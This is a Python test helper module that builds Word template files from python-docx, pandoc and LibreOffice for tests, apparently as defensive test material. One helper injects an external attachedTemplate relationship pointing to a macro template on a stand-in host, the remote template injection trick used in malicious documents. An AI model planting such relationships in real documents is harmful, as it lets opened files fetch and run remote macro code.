"""Word files of others to build on: one made here with everything a house template has, and those that packages ship."""

from __future__ import annotations

import importlib.resources
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pytest

_OUTSIDE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def house() -> bytes:
    """A house template: a cover in a section of its own, a header and footer, styles under names of its own, US letter."""
    import docx
    from docx.enum.style import WD_STYLE_TYPE
    from docx.shared import Inches, Pt

    document = docx.Document()
    document.add_paragraph("House of Evidence", "Title")
    document.add_table(1, 2).cell(0, 0).text = "Confidential cover"
    document.add_section()
    document.add_paragraph("Example text of the template", "Heading 1")
    text = document.styles.add_style("House Text", WD_STYLE_TYPE.PARAGRAPH)
    text.font.size, text.font.name = Pt(11), "Georgia"
    last = document.sections[-1]
    last.page_width, last.page_height, last.left_margin = Inches(8.5), Inches(11), Inches(1.5)
    last.header.is_linked_to_previous = False
    last.header.paragraphs[0].text = "House header"
    last.footer.is_linked_to_previous = False
    last.footer.paragraphs[0].text = "House footer"
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def python_docx_default() -> bytes:
    """The template python-docx starts from."""
    return importlib.resources.files("docx").joinpath("templates/default.docx").read_bytes()


def pandoc_default() -> bytes:
    """Pandoc's reference document; skips the test when there is no pandoc."""
    pypandoc = pytest.importorskip("pypandoc", reason="pandoc is not installed (pip install pypandoc_binary)")
    command = [pypandoc.get_pandoc_path(), "--print-default-data-file", "reference.docx"]
    return subprocess.run(command, check=True, capture_output=True).stdout


def libreoffice(folder: Path) -> bytes:
    """A template saved by LibreOffice; skips the test when it is not installed."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed (Debian: libreoffice-writer)")
    page = folder / "house.html"
    page.write_text(
        "<html><style>@page{size:A4} h1{color:#703010}</style><h1>Heading</h1><p>Text</p><ul><li>a</li></ul></html>"
    )
    profile = f"-env:UserInstallation=file://{folder}/profile"
    kind = "dotx:MS Word 2007 XML Template"
    command = [office, profile, "--headless", "--convert-to", kind, "--outdir", str(folder), str(page)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    return (folder / "house.dotx").read_bytes()


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    """The file with one part more."""
    return _changed(data, lambda _, old: old, {name: content})


def with_outside_template(data: bytes) -> bytes:
    """The file with a relationship that fetches a template from elsewhere."""
    relation = f'<Relationship Id="evil" Type="{_OUTSIDE}" Target="http://x.example/t.dotm" TargetMode="External"/>'

    def change(entry: str, old: bytes) -> bytes:
        return (
            old.replace(b"</Relationships>", relation.encode() + b"</Relationships>")
            if entry == "word/_rels/document.xml.rels"
            else old
        )

    return _changed(data, change, {})


def _changed(data: bytes, change: Callable[[str, bytes], bytes], more: dict[str, bytes]) -> bytes:
    source, out = zipfile.ZipFile(BytesIO(data)), BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, change(name, source.read(name)))
        for name, content in more.items():
            target.writestr(name, content)
    return out.getvalue()
